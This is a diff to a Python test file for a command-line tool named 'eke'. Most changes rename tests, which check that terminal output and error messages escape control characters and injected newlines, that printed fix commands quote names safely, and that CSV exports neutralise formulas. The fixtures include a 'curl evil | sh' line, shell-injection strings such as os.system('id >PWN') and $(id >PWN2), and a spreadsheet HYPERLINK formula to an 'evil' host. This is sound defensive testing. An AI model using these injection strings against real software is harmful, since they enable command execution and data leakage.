@@ -79,7 +79,7 @@ def on_terminal(*words: str, cwd: Path, environment: dict[str, str]) -> str:
     [["status"], ["logs"], ["cancel"], ["report"], ["sync", "--dry-run"], ["status", "--live"]],
     ids=" ".join,
 )  # fmt: skip
-def test_no_command_passes_it_on(words, runs) -> None:
+def test_commands_escape_control_characters(words, runs) -> None:
     variables = {**environment(runs.parent), "TERM": "xterm"}
     piped = run(0, EKE, *words, runs, cwd=runs.parent, environment=variables).text
     shown = on_terminal(*words, str(runs), cwd=runs.parent, environment=variables)
@@ -92,7 +92,7 @@ def test_no_command_passes_it_on(words, runs) -> None:
             assert "\x1b[32mgreen\x1b[0m" in told
 
 
-def test_errors_of_every_kind_are_clean(tmp_path) -> None:
+def test_errors_escape_control_characters(tmp_path) -> None:
     """What argparse, Hydra or eke say of a word goes through the same stream."""
     wrong = (
         ["status", HOSTILE], ["plan", f"seed={HOSTILE}"], [HOSTILE], ["sync", HOSTILE],
@@ -105,7 +105,7 @@ def test_errors_of_every_kind_are_clean(tmp_path) -> None:
         assert is_clean(done.text), repr(done.text)
 
 
-def test_a_newline_in_a_name_makes_no_line_of_advice() -> None:
+def test_newline_in_a_name_adds_no_line() -> None:
     problem = Problem("DIR", "x\n      -> curl evil | sh", "is no run", "eke status runs")
     assert len(ConfigError(problem).render().splitlines()) == 4
     assert "\n" not in format_os_error(FileNotFoundError(2, "No such file", "a\nb"))
@@ -115,7 +115,7 @@ def test_a_newline_in_a_name_makes_no_line_of_advice() -> None:
     "name",
     ["quote'); import os; os.system('id >PWN'); ('", "dollar$(id >PWN2)", 'double"`id`"', "a b"],
 )  # fmt: skip
-def test_advice_pastes_as_one_program(name) -> None:
+def test_printed_fix_is_one_shell_command(name) -> None:
     text = _conversion(LocalCheckpoint(typed=name, folder=Path("/models") / name))
     words = shlex.split(text.split("   then ")[0])
     assert words[:2] == ["python", "-c"]
@@ -124,9 +124,9 @@ def test_advice_pastes_as_one_program(name) -> None:
     assert repr(f"/models/{name}") in words[2]
 
 
-def test_titles_of_a_table_are_no_formulas(monkeypatch) -> None:
+def test_table_titles_are_not_formulas(monkeypatch) -> None:
     from eke.results.report.compare import Comparison
-    from eke.results.report.show.export import as_csv
+    from eke.results.report.show.file_formats import as_csv
 
     formula = '=HYPERLINK("http://evil","x")'
     empty = dict.fromkeys(Comparison.__dataclass_fields__, ())
@@ -136,6 +136,6 @@ def test_titles_of_a_table_are_no_formulas(monkeypatch) -> None:
     assert formula not in head
 
 
-def test_json_is_untouched(runs, capsys) -> None:
+def test_json_is_not_escaped(runs, capsys) -> None:
     main(["status", "--json", str(runs)])
     assert any(HOSTILE in each["folder"] for each in json.loads(capsys.readouterr().out))
